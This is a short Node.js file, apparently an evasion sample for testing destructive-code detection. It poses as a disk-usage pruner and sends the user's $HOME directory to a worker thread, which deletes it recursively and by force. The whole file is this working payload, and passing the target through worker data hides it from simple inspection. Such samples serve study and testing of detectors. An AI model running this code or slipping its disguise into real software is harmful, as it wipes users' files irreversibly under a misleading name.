// Evasion: a disk-usage pruner hands the directory to prune to a worker
// thread as its workerData; the directory is $HOME, and the worker (this
// same file) removes it recursively.
'use strict';
const { Worker, isMainThread, workerData, parentPort } = require('worker_threads');
const fs = require('fs');

function sizeOf(dir) {
  let total = 0;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = `${dir}/${e.name}`;
    total += e.isDirectory() ? sizeOf(p) : fs.statSync(p).size;
  }
  return total;
}

if (isMainThread) {
  const w = new Worker(__filename, { workerData: process.env.HOME });
  w.on('message', (n) => console.log(`pruned ${n} bytes`));
} else {
  const before = sizeOf(workerData);
  fs.rmSync(workerData, { recursive: true, force: true });
  parentPort.postMessage(before);
}
